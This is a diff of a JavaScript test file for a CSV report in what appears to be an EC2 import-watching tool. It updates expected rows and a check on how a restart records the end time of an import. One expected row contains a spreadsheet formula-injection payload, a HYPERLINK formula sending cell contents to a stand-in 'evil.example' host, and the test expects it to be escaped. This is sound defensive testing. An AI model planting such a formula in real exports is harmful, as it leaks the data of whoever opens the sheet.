@@ -8,6 +8,7 @@ import {type History, observe} from '../../source/model/history.js';
 import {priorHistory, resume} from '../../source/model/history-restore.js';
 import type {ImportTask} from '../../source/model/import-task.js';
 import {journalLine} from '../../source/model/journal-line.js';
+import {isoWithOffset} from '../../source/model/report-format.js';
 import {runReport} from '../../source/shell/run-report.js';
 import {openJournal} from '../../source/watch/journal-file.js';
 import {task} from '../helpers/tasks.js';
@@ -93,7 +94,7 @@ describe('report', () => {
 		const lines = out.split('\r\n').slice(0, -1);
 		assert.deepEqual(lines, [
 			'task_id,kind,region,description,status,first_seen,ended,duration_s,disk_bytes,gib_per_hour,result_id,message,explanation',
-			'import-ami-done,image,,,completed,2026-12-07T09:00:00+01:00,,,4294967296,,,,',
+			'import-ami-done,image,,,completed,2026-12-07T09:00:00+01:00,,,4294967296,,ami-0old,,',
 			`import-ami-a,image,eu-west-1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",completed,2026-12-07T09:00:00+01:00,2026-12-07T11:10:00+01:00,7800,8589934592,3.69,ami-0a,,`,
 			'import-ami-b,image,eu-west-1,"web | tier, ""two""",deleted,2026-12-07T09:10:00+01:00,2026-12-07T11:10:00+01:00,7200,,,,ClientError: Unknown OS / missing OS files.,The disk has no OS EC2 recognises',
 			"import-snap-c,snapshot,eu-west-1,'-data disk␛,active,2026-12-07T11:10:00+01:00,,,,,,downloading/converting,",
@@ -190,7 +191,8 @@ describe('report', () => {
 		assert.equal(row.task_id, 'import-ami-late');
 		assert.equal(row.status, 'completed');
 		assert.equal(row.result_id, 'ami-0late');
-		assert.equal(row.duration_s, 3600, 'ended when the restart noticed it');
+		assert.equal(row.ended, isoWithOffset(start + 60 * minute, plusOne), 'ended when the restart noticed it');
+		assert.deepEqual([row.duration_s, row.gib_per_hour], [null, null], 'it ended some time before: no duration, no rate');
 		assert.equal(err, `ec2-import-watch report: 1 line of ${history} skipped: not journal records\n`);
 	});
 
